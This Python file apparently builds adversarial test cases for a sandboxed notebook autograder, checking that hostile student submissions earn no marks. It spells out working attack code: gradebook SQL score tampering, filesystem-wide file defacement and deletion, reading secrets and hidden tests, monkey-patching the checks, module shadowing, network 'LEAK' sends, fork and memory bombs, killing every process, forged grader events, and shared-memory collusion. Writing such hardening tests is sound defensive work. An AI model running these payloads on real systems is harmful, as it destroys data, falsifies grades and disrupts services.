"""Hostile and faulty submissions for the adversarial grading suite.

Each :class:`Case` lays out one student's folder (``submissions/<student>/adv/``) and says what
the grader must give it. Hostile code gets the absolute paths it could possibly want (gradebook,
instructor's source, other submissions, a canary in the instructor's home, listener ports) in a
``CTX`` dict, the worst case of a student who knows the instructor's machine.

Answers: ``CORRECT`` earns the full 5 points, ``BLANK`` (the released stub) earns 0; most
attacks are appended to ``BLANK`` and must earn 0, noise appended to ``CORRECT`` must earn 5.
"""

from __future__ import annotations

import copy
import json
import os
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Optional

from ste_course.authoring.release import blank_solution
from ste_course.authoring.source import strip_hidden

ASSIGNMENT = "adv"


def ready_to_grade() -> None:
    """Fail (never skip) without bubblewrap; put this environment's ``bin`` on PATH (nbgrader's
    gradebook runs ``alembic`` by name)."""
    import sys

    import pytest

    from ste_course.sandbox import bwrap_path

    if not bwrap_path():
        pytest.fail("bubblewrap is required (make system-deps)")
    bindir = str(Path(sys.executable).parent)
    if bindir not in os.environ.get("PATH", "").split(os.pathsep):
        os.environ["PATH"] = os.pathsep.join([bindir, os.environ.get("PATH", "")])

FULL = 5.0
ANSWER_ID = "answer"

CORRECT = "def my_sign(x, clip_value=1.0):\n    return ste_utils.ste_sign(x, clip_value)\n"
# Correct forward pass, no gradient at all: earns the 2 value points only.
VALUE_ONLY = ("def my_sign(x, clip_value=1.0):\n"
              "    return tf.where(x >= 0, tf.ones_like(x), -tf.ones_like(x)) + 0 * tf.stop_gradient(x)\n")


@dataclass
class Case:
    """``layout(ctx, folder)`` fills the assignment folder; the grade must equal ``score``."""

    layout: Callable
    score: float
    status: Optional[str] = "ok"  # expected grades.csv status (None: any)
    note: str = ""


# ------------------------------------------------------------------------------ notebooks
def release(source_nb: dict) -> dict:
    """The student's copy of the fixture: hidden tests removed, answers blanked."""
    nb = copy.deepcopy(source_nb)
    for cell in nb["cells"]:
        text = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        nbg = cell.get("metadata", {}).get("nbgrader", {})
        if nbg.get("solution"):
            text = blank_solution(text)
        elif nbg.get("grade"):
            text = strip_hidden(text)
        cell["source"] = text
    return nb


def _code(text: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": text}


def with_ctx(ctx: dict, code: str) -> str:
    return f"import json as _json\nCTX = _json.loads({json.dumps(json.dumps(ctx))})\n" + code


def notebook(ctx, answer=None, attack="", after=(), before=(), mutate=None) -> dict:
    """The released notebook with ``answer`` (default: the blank stub) plus ``attack`` code in
    the answer cell, extra cells ``before`` the answer cell and ``after`` the last test."""
    nb = release(json.loads(Path(ctx["source_nb"]).read_text(encoding="utf-8")))
    cells = []
    for cell in nb["cells"]:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid == ANSWER_ID:
            cells += [_code(with_ctx(ctx, b)) for b in before]
            if answer is not None:
                cell["source"] = answer
            if attack:
                cell["source"] = with_ctx(ctx, attack) + "\n" + cell["source"]
        cells.append(cell)
        if gid == "test_gradient":
            cells += [_code(with_ctx(ctx, a)) for a in after]
    nb["cells"] = cells
    if mutate is not None:
        mutate(nb)
    return nb


def write_nb(folder: Path, nb, name=ASSIGNMENT) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    data = nb if isinstance(nb, (bytes, str)) else json.dumps(nb, indent=1)
    (folder / f"{name}.ipynb").write_bytes(data.encode() if isinstance(data, str) else data)


def nb_case(score, status="ok", note="", **kwargs) -> Case:
    return Case(lambda ctx, folder: write_nb(folder, notebook(ctx, **kwargs)), score, status, note)


# ------------------------------------------------------------------------------ attack code
TRY = "def _try(f):\n    try:\n        return f()\n    except BaseException as e:\n        return repr(e)\n"

GRADEBOOK = TRY + r"""
import os, sqlite3, glob
targets = [CTX["gradebook"], "../../gradebook.db", "../gradebook.db", "gradebook.db"]
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for key in ("cwd", "root"):
            targets.append(f"/proc/{pid}/{key}/gradebook.db")
            targets.append(f"/proc/{pid}/{key}" + CTX["gradebook"])
        env = _try(lambda: open(f"/proc/{pid}/environ", "rb").read())
        print(pid, str(env)[:200])
targets += glob.glob("/**/gradebook.db", recursive=True)
def hack(path):
    db = sqlite3.connect(path)
    db.execute("UPDATE grade SET auto_score = 1000")
    db.execute("UPDATE grade_cell SET max_score = 0")
    db.commit()
    return "hacked"
for t in targets:
    print(t, _try(lambda: hack(t)))
print(_try(lambda: open(CTX["csv"], "w").write("student_id\n")))
"""

WRITE_FILES = TRY + r"""
import os, shutil
for path in [CTX["source_nb"], CTX["other_nb"], CTX["canary"], CTX["csv"], CTX["secret"]]:
    print(path, _try(lambda: open(path, "a").write("PWNED")))
    print(path, _try(lambda: os.remove(path)))
    print(path, _try(lambda: open(path).read()))
print(_try(lambda: shutil.rmtree(CTX["root"])))
for root in ("/", "/tmp", "/work", "/root", "/home"):
    for dirpath, dirs, files in os.walk(root):
        if dirpath.startswith(("/proc", "/sys", "/usr")):
            dirs[:] = []
            continue
        for f in files:
            if f.endswith((".ipynb", ".db", ".txt", ".csv")):
                p = os.path.join(dirpath, f)
                print(p, _try(lambda: open(p, "a").write("PWNED")))
"""

READ_HIDDEN = TRY + r"""
import os
found = []
for dirpath, dirs, files in os.walk("/"):
    if dirpath.startswith(("/proc", "/sys", "/dev")):
        dirs[:] = []
        continue
    for f in files:
        if f.endswith(".ipynb"):
            p = os.path.join(dirpath, f)
            text = _try(lambda: open(p).read())
            if "HIDDEN" in text:
                found.append(p)
print("found", found)
print(_try(lambda: open(CTX["source_nb"]).read()))
print(_try(lambda: open(CTX["canary"]).read()))
print(_try(lambda: open(CTX["secret"]).read()))
# Print a hidden test line (guessed, built so that this code does not hold it): feedback must scrub it.
print("check(my_sign, " + '"ste_sign/value", hidden=True)')
"""

INPUT_TRANSFORMERS = r"""
ip = get_ipython()
def skip(lines):
    return ["pass\n"] if any("check(" in l for l in lines) else lines
ip.input_transformers_cleanup.append(skip)
ip.input_transformers_post.append(skip)
import ast
class Kill(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.Constant(None) if getattr(node.func, "id", "") == "check" else node
ip.ast_transformers.append(Kill())
ip.input_transformer_manager.cleanup_transforms.insert(0, skip)
"""

EVENT_HOOKS = r"""
ip = get_ipython()
import ste_course.checks as C
def nope(*a, **k):
    return None
def pre(*args):
    ip.user_ns["check"] = nope
    C.check = nope
    if args:
        try:
            args[0].raw_cell = "pass"
        except Exception:
            pass
ip.events.register("pre_run_cell", pre)
ip.events.register("pre_execute", pre)
ip.events.register("post_run_cell", pre)
ip.events.register("post_execute", pre)
"""

CUSTOM_EXC = r"""
ip = get_ipython()
def swallow(shell, etype, evalue, tb, tb_offset=None):
    return None
ip.set_custom_exc((BaseException,), swallow)
import sys
sys.excepthook = lambda *a: None
"""

PATCH_CHECKS = r"""
import sys, types, numpy as np
import ste_course.checks as C
def fake_collect(spec, obj, case):
    return {"outputs": {"value": C.encode_array(np.ones(3)), "gradient": C.encode_array(np.ones(3))}}
C.collect = fake_collect
C.compare = lambda *a, **k: []
C.check = lambda *a, **k: None
for name, spec in list(C.SPECS.items()):
    object.__setattr__(spec, "run", lambda obj, case: {"value": case["x"], "gradient": case["x"]})
C.SPECS.clear()
fake = types.ModuleType("ste_course.checks")
fake.check = lambda *a, **k: None
sys.modules["ste_course.checks"] = fake
C.GradingSession.next_call = lambda self, name: None
"""

NUMPY_TF_PATCH = r"""
import numpy as np, tensorflow as tf
np.isclose = lambda *a, **k: True
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
tf.debugging.assert_near = lambda *a, **k: None
_orig = tf.GradientTape.gradient
def grad(self, target, sources, output_gradients=None, **kw):
    return tf.ones_like(sources)
tf.GradientTape.gradient = grad
"""

SHADOW = TRY + r"""
import os, sys, tempfile
evil = "raise SystemExit('shadowed')\n"
fake_checks = "def check(*a, **k):\n    return None\n"
for d in {os.getcwd(), tempfile.gettempdir(), os.environ.get("TMPDIR", "/tmp"), os.environ.get("HOME", "/tmp")}:
    for name in ("numpy.py", "tensorflow.py", "ste_utils.py", "sitecustomize.py", "usercustomize.py", "conftest.py"):
        print(d, name, _try(lambda: open(os.path.join(d, name), "w").write(evil)))
    os.makedirs(os.path.join(d, "ste_course"), exist_ok=True)
    open(os.path.join(d, "ste_course", "__init__.py"), "w").write("")
    open(os.path.join(d, "ste_course", "checks.py"), "w").write(fake_checks)
    sys.path.insert(0, d)
import ste_course
ste_course.__path__.insert(0, os.path.join(os.getcwd(), "ste_course"))
for mod in ("ste_course.checks", "ste_course.specs", "ste_course", "numpy", "ste_utils"):
    sys.modules.pop(mod, None)
"""

NETWORK = TRY + r"""
import socket
def tcp(host):
    s = socket.create_connection((host, CTX["tcp_port"]), timeout=2)
    s.sendall(b"LEAK")
    return "connected"
def udp(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"LEAK", (host, CTX["udp_port"]))
    return "sent"
for host in ("127.0.0.1", "localhost", CTX["host_ip"]):
    print(host, _try(lambda: tcp(host)), _try(lambda: udp(host)))
print(_try(lambda: socket.getaddrinfo("example.com", 80)))
print(_try(lambda: socket.socket(socket.AF_UNIX).connect("/run/systemd/private")))
print(_try(lambda: __import__("urllib.request").request.urlopen("http://1.1.1.1", timeout=2)))
"""

FORK_BOMB = r"""
import os
for _ in range(10000):
    try:
        os.fork()
    except OSError:
        break
"""

BACKGROUND = r"""
import subprocess, os, sys
subprocess.Popen(["sleep", "1000"], start_new_session=True)
subprocess.Popen([sys.executable, "-c", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(1000)"],
                 start_new_session=True)
if os.fork() == 0:
    os.setsid()
    import time
    time.sleep(1000)
"""

FORGE_EVENTS = TRY + r"""
import json, os
for fd in range(3, 64):
    for cell in range(12):
        ev = {"event": "end", "cell": cell, "error": None, "stdout": "", "stderr": "",
              "evidence": [{"spec": s, "results": [{"outputs": {"value": {"dtype": "float32", "shape": [1], "bytes": "AACAPw=="},
                                                               "gradient": {"dtype": "float32", "shape": [1], "bytes": "AACAPw=="}}}] * 9}
                           for s in ("ste_sign/value", "ste_sign/gradient")]}
        _try(lambda: os.write(fd, (json.dumps(ev) + "\n").encode()))
"""


# Evidence with the right numbers, computed from the cases in the kernel's memory and written on
# the grader's channel by the student's cell (before the harness reports that cell, or after a
# forged report of it): not the harness's, so not evidence.
FORGE_CORRECT = r"""
import gc, json, os, stat
import numpy as np, tensorflow as tf, ste_utils
session = next(o for o in gc.get_objects() if type(o).__name__ == "GradingSession")
from ste_course.evidence import encode_array as enc
from ste_course.specs.base import decode_case as case_of
def result(spec, c):
    x = tf.constant(c["x"])
    with tf.GradientTape() as tape:
        tape.watch(x)
        y = ste_utils.ste_sign(x, c["clip_value"])
    g = tape.gradient(y, x, output_gradients=tf.constant(c["upstream"]))
    return {"outputs": {"value": enc(y)} if spec.endswith("value") else {"gradient": enc(g)}}
events = [{"event": "end", "cell": THIS_CELL, "error": None, "stdout": "", "stderr": "", "evidence": []}] if IN_ORDER else []
for key, planned in sorted(session.calls.items()):
    evidence = [{"spec": p["spec"], "results": [result(p["spec"], case_of(c)) for c in p["cases"]]} for p in planned]
    events += [{"event": "start", "cell": int(key)},
               {"event": "end", "cell": int(key), "error": None, "stdout": "", "stderr": "", "evidence": evidence}]
data = "".join(json.dumps(e) + "\n" for e in events).encode()
for fd in range(3, 256):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, data)
    except OSError:
        pass
"""

KILL_SERVER = TRY + r"""
import os, signal
print(_try(lambda: os.kill(os.getppid(), signal.SIGKILL)))
print(_try(lambda: os.kill(1, signal.SIGKILL)))
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        print(pid, _try(lambda: os.kill(int(pid), signal.SIGKILL)))
"""

NOISE = r"""
import sys, warnings, logging
import tensorflow as tf
warnings.warn("a student warning")
print("noise on stderr " * 100, file=sys.stderr)
logging.getLogger("tensorflow").warning("TF log line")
logging.warning("root logger line")
tf.print("tf.print to stderr", output_stream=sys.stderr)
import os
os.write(2, b"raw fd 2 noise\n")
"""

GLOBAL_TF = r"""
import numpy as np, tensorflow as tf
tf.config.run_functions_eagerly(True)
tf.random.set_seed(1234)
np.random.seed(99)
np.seterr(all="raise")
tf.keras.backend.set_floatx("float16")
tf.experimental.numpy.experimental_enable_numpy_behavior()
"""


# ------------------------------------------------------------------------------ layouts
def _layout_missing(ctx, folder):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "README.txt").write_text("forgot it")


def _layout_renamed(ctx, folder):
    write_nb(folder, notebook(ctx, answer=CORRECT), name=f"{ASSIGNMENT}-Copy1")


def _layout_extra_files(ctx, folder):
    write_nb(folder, notebook(ctx, answer=CORRECT))
    for name in ("numpy.py", "ste_utils.py", "sitecustomize.py", "conftest.py", "tensorflow.py"):
        (folder / name).write_text("raise SystemExit('extra file executed')\n")
    (folder / "ste_course").mkdir()
    (folder / "ste_course" / "checks.py").write_text("def check(*a, **k):\n    pass\n")
    os.symlink("/etc/passwd", folder / "passwd")
    os.symlink(ctx["gradebook"], folder / "gradebook.db")


def _layout_symlink(ctx, folder):
    folder.mkdir(parents=True, exist_ok=True)
    os.symlink(ctx["other_nb"], folder / f"{ASSIGNMENT}.ipynb")


def _set_kernel(nb):
    nb["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    nb["metadata"]["language_info"] = {"name": "bash"}


def _bump_schema(nb):
    for cell in nb["cells"]:
        if "nbgrader" in cell.get("metadata", {}):
            cell["metadata"]["nbgrader"]["schema_version"] = 99
    nb["nbformat_minor"] = 99


def _edit_tests(nb):
    for cell in nb["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
            cell["source"] = "pass  # tests removed"
            cell["metadata"]["nbgrader"]["points"] = 0


def _delete_tests(nb):
    nb["cells"] = [c for c in nb["cells"] if not c.get("metadata", {}).get("nbgrader", {}).get("grade")]


def _duplicate_tests(nb):
    out = []
    for cell in nb["cells"]:
        out.append(cell)
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
            dup = copy.deepcopy(cell)
            dup["source"] = "pass"
            out.insert(len(out) - 1, dup)  # the fake copy first
    nb["cells"] = out


def _duplicate_answer(nb):
    """A wrong answer cell, then a copy of it with the correct answer: the last copy is the answer
    (nbgrader's DeduplicateIds), the earlier one runs as the student's own cell."""
    for i, cell in enumerate(nb["cells"]):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == ANSWER_ID:
            dup = copy.deepcopy(cell)
            cell["source"] = "def my_sign(x, clip_value=1.0):\n    return x\n"
            dup["source"] = CORRECT
            nb["cells"].insert(i + 1, dup)
            return


def _nbformat3(ctx, folder):
    nb = notebook(ctx, answer=CORRECT)
    nb["nbformat"], nb["nbformat_minor"] = 3, 0
    nb["worksheets"] = [{"cells": nb.pop("cells")}]
    nb["cells"] = []
    write_nb(folder, nb)


def _nbformat3_with_cells(ctx, folder):
    nb = notebook(ctx, answer=CORRECT)
    nb["nbformat"] = 3
    write_nb(folder, nb)


CASES: dict[str, Case] = {
    # reference students
    "complete": nb_case(FULL, answer=CORRECT),
    "blank": nb_case(0),
    # tampering with the instructor's files
    "gradebook-sqlite": nb_case(0, attack=GRADEBOOK),
    "write-instructor-files": nb_case(0, attack=WRITE_FILES),
    "read-hidden-tests": nb_case(0, attack=READ_HIDDEN),
    # rewriting or skipping the tests from inside the kernel
    "input-transformers": nb_case(0, attack=INPUT_TRANSFORMERS),
    "event-hooks": nb_case(0, attack=EVENT_HOOKS),
    "custom-exc": nb_case(0, attack=CUSTOM_EXC, after=["raise RuntimeError('after')"]),
    "patch-checks": nb_case(0, attack=PATCH_CHECKS),
    "patch-numpy-tf": nb_case(0, attack=NUMPY_TF_PATCH),
    "patch-tf-gradient-value-only": nb_case(2, answer=VALUE_ONLY, attack=NUMPY_TF_PATCH,
                                            note="correct values earn 2; patched gradients earn nothing"),
    "shadow-modules": nb_case(0, attack=SHADOW),
    "forge-events": nb_case(0, status="error", attack=FORGE_EVENTS),
    "forge-correct-evidence": nb_case(0, status="error", attack="THIS_CELL, IN_ORDER = 2, False\n" + FORGE_CORRECT),
    "forge-correct-evidence-in-order": nb_case(0, status="error", attack="THIS_CELL, IN_ORDER = 2, True\n" + FORGE_CORRECT),
    "kill-server": nb_case(0, attack=KILL_SERVER),
    # leaving the process
    "sys-exit": nb_case(0, attack="import sys\nsys.exit(0)"),
    "raise-systemexit": nb_case(0, attack="raise SystemExit(0)"),
    "os-exit": nb_case(0, status="crash", attack="import os\nos._exit(0)"),
    "segfault": nb_case(0, status="crash", attack="import ctypes\nctypes.string_at(0)"),
    # resources
    "infinite-loop": nb_case(0, attack="while True:\n    pass"),
    "alarm-ignored-loop": nb_case(0, status="timeout",
                                  attack="import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass"),
    "tf-while-forever": nb_case(0, status=None, attack=(
        "import tensorflow as tf\n@tf.function\ndef forever():\n"
        "    return tf.while_loop(lambda i: tf.constant(True), lambda i: i + 1, [tf.constant(0)])\nforever()")),
    "memory-bomb": nb_case(0, attack="blocks = []\nwhile True:\n    blocks.append(bytearray(10**8))"),
    "fork-bomb": nb_case(0, status=None, attack=FORK_BOMB),
    "background-process": nb_case(0, status=None, attack=BACKGROUND),
    "background-process-correct": nb_case(FULL, status=None, answer=CORRECT, after=[BACKGROUND]),
    "network": nb_case(0, attack=NETWORK),
    "huge-output": nb_case(FULL, answer=CORRECT, attack="for _ in range(50):\n    print('x' * 2**20)"),
    # wrong answers dressed up
    "nan-inf": nb_case(0, answer="def my_sign(x, clip_value=1.0):\n    return x * float('nan') + float('inf')\n"),
    "eq-always-true": nb_case(0, answer=(
        "class Yes:\n    def __eq__(self, other):\n        return True\n    __hash__ = object.__hash__\n"
        "    def __bool__(self):\n        return True\n"
        "def my_sign(x, clip_value=1.0):\n    return Yes()\n")),
    "eq-ndarray-subclass": nb_case(0, answer=(
        "import numpy as np\nclass Yes(np.ndarray):\n    def __eq__(self, other):\n        return True\n"
        "    def __array__(self, *a, **k):\n        return np.zeros(1)\n"
        "def my_sign(x, clip_value=1.0):\n    return np.zeros(3).view(Yes)\n")),
    "wrong-dtype-numpy": nb_case(0, answer=(
        "def my_sign(x, clip_value=1.0):\n    return ste_utils.ste_sign(x, clip_value).numpy().astype('float64')\n")),
    "wrong-shape": nb_case(0, answer=(
        "def my_sign(x, clip_value=1.0):\n    return tf.reshape(ste_utils.ste_sign(x, clip_value), [-1])[:3]\n")),
    "numpy-breaks-tape": nb_case(2, answer=(
        "def my_sign(x, clip_value=1.0):\n"
        "    return tf.constant(ste_utils.ste_sign(x, clip_value).numpy())\n")),
    "py-function-tape": nb_case(2, answer=(
        "import numpy as np\ndef my_sign(x, clip_value=1.0):\n"
        "    f = lambda t: np.where(t.numpy() >= 0, 1, -1).astype(t.dtype.as_numpy_dtype)\n"
        "    return tf.py_function(f, [x], Tout=x.dtype)\n")),
    "global-tf-state": nb_case(FULL, answer=CORRECT, attack=GLOBAL_TF),
    # notebook structure
    "edited-tests": nb_case(0, mutate=_edit_tests),
    "deleted-tests-correct": nb_case(FULL, answer=CORRECT, mutate=_delete_tests),
    "duplicated-tests": nb_case(0, mutate=_duplicate_tests),
    "duplicated-answer": nb_case(FULL, mutate=_duplicate_answer),
    "kernelspec-bash": nb_case(FULL, answer=CORRECT, mutate=_set_kernel),
    "schema-version-99": nb_case(FULL, answer=CORRECT, mutate=_bump_schema),
    "bad-json": Case(lambda ctx, folder: write_nb(folder, b'{"cells": [ oops'), 0, "invalid"),
    "nbformat-3": Case(_nbformat3, 0, "invalid"),
    "nbformat-3-with-cells": Case(_nbformat3_with_cells, 0, "invalid"),
    "missing-notebook": Case(_layout_missing, 0, "missing"),
    "renamed-notebook": Case(_layout_renamed, 0, "missing"),
    "symlinked-notebook": Case(_layout_symlink, 0, "invalid"),
    "extra-files-correct": Case(_layout_extra_files, FULL, "ok"),
    # correct code with noise must keep full marks
    "noise-correct": nb_case(FULL, answer=CORRECT, attack=NOISE, after=[NOISE]),
    "exit-after-tests": nb_case(FULL, answer=CORRECT, after=["import os\nos._exit(0)"]),
    "segfault-after-tests": nb_case(FULL, answer=CORRECT, after=["import ctypes\nctypes.string_at(0)"]),
    "sys-exit-after-tests": nb_case(FULL, answer=CORRECT, after=["import sys\nsys.exit(1)"]),
}


# ------------------------------------------------------------------------------ the sandbox's own attacks
# Nothing of one notebook may reach the next (memory, SysV IPC), no notebook holds a capability,
# and only the harness resets the cell timer. A notebook prints a line starting with "LEAKED" when
# it got hold of something it must not (test_adversarial checks that no feedback shows one).
# "0-collude-*" sort first, so each worker's first notebook is one of them (the executor hands
# out notebooks in order); the "zz-*" notebooks run later on the same workers.
COLLUDE_IPC = r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
answer = b"def my_sign(x, clip_value=1.0):\n    return ste_utils.ste_sign(x, clip_value)\n"
shmid = libc.shmget(0x5713C0DE, 4096, 0o1000 | 0o666)   # IPC_CREAT, readable by every uid
if shmid >= 0:
    addr = libc.shmat(shmid, None, 0)
    ctypes.memmove(addr, answer, len(answer))
msq = libc.msgget(0x5713C0DF, 0o1000 | 0o666)
class Msg(ctypes.Structure):
    _fields_ = [("mtype", ctypes.c_long), ("mtext", ctypes.c_char * 256)]
if msq >= 0:
    libc.msgsnd(msq, ctypes.byref(Msg(1, answer)), len(answer), 0o4000)  # IPC_NOWAIT
libc.semget(0x5713C0E0, 1, 0o1000 | 0o666)
print("PLANTED-" + "OUTPUT-" + "7f3a9c", shmid, msq)
"""

FIND_IPC = r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
tables = {name: open(f"/proc/sysvipc/{name}").read().splitlines()[1:] for name in ("shm", "msg", "sem")}
if any(tables.values()):
    print("LEAKED IPC objects of an earlier notebook:", tables)
shmid = libc.shmget(0x5713C0DE, 0, 0)
if shmid >= 0:
    code = ctypes.string_at(libc.shmat(shmid, None, 0o10000), 4096).split(b"\0")[0].decode()  # SHM_RDONLY
    print("LEAKED shared memory:", code)
    exec(code)
"""

SCAN_MEMORY = r"""
import ctypes, re
own = b"zz-scan-memory/adv/adv"
patterns = {"answer": re.compile(rb"def my_sign\(x, clip_value=1\.0\):\n    return ste_utils\.ste_sign\(x, clip_value\)\n"),
            "answer_in_json": re.compile(rb"def my_sign\(x, clip_value=1\.0\):\\n    return ste_utils\.ste_sign\(x, clip_value\)\\n"),
            "output": re.compile(rb"PLANTED-OUTPUT-[0-9a-f]{6}"),
            # classmates' job ids (their names are no secret in a class)
            "job": re.compile(rb"(?<![A-Za-z0-9_.-])(?:complete|blank|0-collude-ipc-[ab]|zz-[a-z-]+)/adv/adv")}
found = {}
with open("/proc/self/maps") as maps:
    regions = [line.split() for line in maps]
for fields in regions:
    if not fields[1].startswith("rw") or (len(fields) > 5 and fields[5] != "[heap]"):
        continue  # the heap and anonymous memory: where Python keeps its objects
    lo, hi = (int(v, 16) for v in fields[0].split("-"))
    for start in range(lo, hi, 1 << 24):
        chunk = ctypes.string_at(start, min(1 << 24, hi - start))  # its own memory: no permission needed
        for name, pattern in patterns.items():
            literal = b"/adv/adv" if name == "job" else pattern.pattern[:11].replace(b"\\", b"")
            at = chunk.find(literal)
            while at >= 0:  # a literal search first: a regex over every byte would take minutes
                m = pattern.search(chunk, max(at - 64, 0), at + 256)
                if m and not m.group().endswith(own):
                    found.setdefault(name, m.group().decode())
                at = chunk.find(literal, at + 1)
if found:
    print("LEAKED memory of an earlier notebook:", found)
if "answer" in found or "answer_in_json" in found:
    exec(found.get("answer") or found["answer_in_json"].replace("\\n", "\n"))
"""

CAPABILITIES = r"""
import os
SERVER = (1 << 5) | (1 << 6) | (1 << 7)  # CAP_KILL, CAP_SETGID, CAP_SETUID
def caps(pid):
    with open(f"/proc/{pid}/status") as f:
        return {k: int(v, 16) for k, v in (l.split(":") for l in f if l.startswith("Cap"))}
def parent(pid):
    return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
held = [f"this notebook {k}={v:x}" for k, v in caps("self").items() if v]
# PID 1 of its own namespace; the sandbox's /proc names it, its keeper, the zygote and the server
keeper = parent(os.readlink("/proc/self"))
zygote = parent(keeper)
server = parent(zygote)
held += [f"keeper {k}={v:x}" for k, v in caps(keeper).items() if v]
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:  # the bounding set matters for the server and zygote (bubblewrap's pid 1 never execs)
        held += [f"pid {pid} {k}={v:x}" for k, v in caps(pid).items()
                 if v & ~SERVER and (k != "CapBnd" or int(pid) in (zygote, server))]
    except OSError:
        pass
print("LEAKED capabilities:" if held else "capabilities as documented", held)
"""

# Keeps the cell running past the cell limit (SIGALRM ignored) while writing `start` events on
# every descriptor, then answers correctly: only the harness may reset the cell timer.
FORGE_START = r"""
import json, os, signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
starts = "".join(json.dumps({"event": "start", "cell": i}) + "\n" for i in range(64)).encode()
until = time.monotonic() + 17
while time.monotonic() < until:
    for fd in range(3, 64):
        try:
            os.write(fd, starts)
        except OSError:
            pass
    time.sleep(0.5)
def my_sign(x, clip_value=1.0):
    return ste_utils.ste_sign(x, clip_value)
"""

CASES.update({
    "0-collude-ipc-a": nb_case(FULL, answer=CORRECT, attack=COLLUDE_IPC),
    "0-collude-ipc-b": nb_case(FULL, answer=CORRECT, attack=COLLUDE_IPC),
    "zz-find-ipc": nb_case(0, answer=FIND_IPC),
    "zz-scan-memory": nb_case(0, answer=SCAN_MEMORY),
    "zz-capabilities": nb_case(0, attack=CAPABILITIES),
    "zz-forge-start": nb_case(0, status="timeout", answer=FORGE_START),
})

# ------------------------------------------------------------------------------ the parent's attacks
# Text from the sandbox and from the notebook is data (issue 11, class 1): a lone surrogate
# printed by the student's code, or left in a cell's source, never stops the run and costs the
# student nothing (tests/test_containment.py covers the parent's other attacks without a sandbox).
CASES.update({
    "surrogate-output-correct": nb_case(FULL, answer=CORRECT, attack=r"print('lone \ud800 surrogate', '\udcff')"),
    "surrogate-source-correct": nb_case(FULL, answer=CORRECT + "# lone \ud800 in the source\n"),
})

# ------------------------------------------------------------------------------ forbidden reference, whole run
# Red team (issue 11, class 4): the student's code and the harness share one process, so a
# student can always write a complete, well-ordered made-up run and exit before the harness
# writes again, and can read the (hidden) inputs of every later cell from the grading session.
# What must hold: forging then scores only with correct numbers for these very inputs, which
# takes a working implementation, because the reference functions a part forbids are tripwires
# for the WHOLE run (every cell, every thread), not only while that part runs. These cases need
# a part with "forbid" (the adv fixture has none): tests/adversarial/test_forbid_run.py grades
# them on assignment 03 (every part forbids ste_utils.ste_sign) beside honest students.
FORBID_ASSIGNMENT = "03_ste"

# 1. A whole run made up in the harness's order: `end` for this cell, then `start`/`end` for
#    every later cell with the reference's numbers on this submission's own (hidden) inputs,
#    then os._exit(0) before the harness writes again.
FORGE_RUN = r"""
import json, os, stat
import ste_utils
from ste_course.inside import kernel as _k
from ste_course.specs.base import get_spec, decode_case
s = _k._SESSION
events = [{"event": "end", "cell": s.cell, "error": None, "stdout": "", "stderr": "", "evidence": []}]
for key in ("4", "5", "7", "8", "9"):  # the code cells after this one (assignment 03's layout)
    ev = []
    for p in s.calls.get(key, []):
        spec = get_spec(p["spec"])
        ev.append({"spec": p["spec"], "results": [_k.collect(spec, ste_utils.ste_sign, decode_case(c))
                                                  for c in p["cases"]]})
    events += [{"event": "start", "cell": int(key)},
               {"event": "end", "cell": int(key), "error": None, "stdout": "", "stderr": "", "evidence": ev}]
for fd in range(3, 256):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, "".join(json.dumps(e) + "\n" for e in events).encode())
    except OSError:
        pass
os._exit(0)
"""

# 2. A lookup table: the reference called in the answer cell, outside any part, on the exact
#    hidden inputs held by the grading session; the "implementation" returns table entries
#    through tf.custom_gradient.
LOOKUP = r"""
import tensorflow as tf, ste_utils
from ste_course.inside import kernel as _k
from ste_course.specs.base import decode_case
TABLE = {}
for key, planned in _k._SESSION.calls.items():
    for p in planned:
        for c in p["cases"]:
            c = decode_case(c)
            x = tf.constant(c["x"])
            with tf.GradientTape() as t:
                t.watch(x)
                y = ste_utils.ste_sign(x, c["clip_value"])
            TABLE[(c["x"].tobytes(), str(c["x"].dtype), float(c["clip_value"]))] = (y.numpy(), t.gradient(y, x).numpy())
def _lookup(x, clip_value=1.0):
    x = tf.convert_to_tensor(x)
    y, g = TABLE[(x.numpy().tobytes(), x.dtype.name, float(clip_value))]
    @tf.custom_gradient
    def f(t):
        return tf.constant(y), (lambda up: up * tf.constant(g))
    return f(x)
ste_sign_stop_gradient = _lookup
ste_sign_custom_gradient = _lookup
"""

# 3. The lookup table filled from another thread (started in the first answer cell, still
#    running while later cells run): the tripwire is process-wide.
LOOKUP_THREAD = r"""
import threading
def _fill():
""" + "".join("    " + line + "\n" for line in LOOKUP.splitlines() if line.strip()) + r"""
    globals().update(_lookup=_lookup)
_t = threading.Thread(target=_fill)
_t.start()
_t.join()
ste_sign_stop_gradient = ste_sign_custom_gradient = _lookup
"""

# 4. The reference through a sibling (issue 21, attack 4): ste_heaviside has ste_sign's clipped
#    backward; wrapped under the right forward it answers the gradient parts without a
#    straight-through gradient written (5/5 for the custom_gradient parts before). Derived as
#    forbidden for the gradient parts, it is a tripwire for the whole run: the stub raises in
#    the value part too.
SIBLING = r"""
import tensorflow as tf, ste_utils
